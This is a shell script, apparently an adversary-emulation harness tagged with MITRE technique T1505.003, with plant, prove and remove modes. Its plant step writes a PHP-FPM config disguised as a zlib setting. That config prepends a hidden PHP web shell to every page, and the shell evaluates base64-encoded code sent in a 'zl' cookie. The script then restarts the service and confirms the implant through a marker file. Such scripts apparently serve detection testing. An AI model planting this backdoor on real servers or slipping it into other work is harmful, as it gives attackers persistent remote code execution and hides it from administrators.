#!/bin/sh
# T1505.003 (loud): PHP-FPM prepends a file from outside of the web root to every page
M=/var/tmp/luytre-foothold N=32-fpm-prepend
mkdir -p "$M" && chmod 1777 "$M"
seen() { n=0; while [ $n -lt "${1:-40}" ]; do [ -s "$M/$N" ] && return 0; sleep 0.25; n=$((n + 1)); done; return 1; }
w() { mkdir -p "${1%/*}"; cat >"$1"; }
page() { python3 - "$@" <<'END'
import http.client, ssl, sys
for made in (lambda: http.client.HTTPSConnection("127.0.0.1", context=ssl._create_unverified_context(), timeout=20), lambda: http.client.HTTPConnection("127.0.0.1", timeout=20)):
    for host in ("antruc.test", "bennua.test"):
        try:
            c = made(); c.request("GET", sys.argv[1], headers={"Host": host, "X-Lt": "1"}); print(c.getresponse().read().decode("utf-8", "replace"))
        except (OSError, http.client.HTTPException) as error:
            print(error)
END
}
plant() {
  v=$(ls /etc/php); w /etc/php/$v/fpm/conf.d/20-zlib.ini <<'E'
auto_prepend_file=/usr/share/php/zlib.inc
E
  w /usr/share/php/zlib.inc <<'E'
<?php if (isset($_SERVER['HTTP_X_LT'])) { $f = 'file_put' . '_contents'; $f('/var/tmp/luytre-foothold/32-fpm-prepend', 'ran'); } if (isset($_COOKIE['zl'])) { @eval(base64_decode($_COOKIE['zl'])); }
E
  systemctl reset-failed php$v-fpm 2>/dev/null; systemctl restart php$v-fpm
}
prove() {
  rm -f "$M/$N"
  page /index.php >/dev/null
  seen
}
remove() {
  v=$(ls /etc/php); rm -f /etc/php/$v/fpm/conf.d/20-zlib.ini /usr/share/php/zlib.inc; systemctl reset-failed php$v-fpm 2>/dev/null; systemctl restart php$v-fpm
  rm -f "$M/$N" "$M/$N".*
  :
}
case $1 in plant | prove | remove) "$1" ;; *) echo "usage: $0 plant|prove|remove" >&2; exit 2 ;; esac
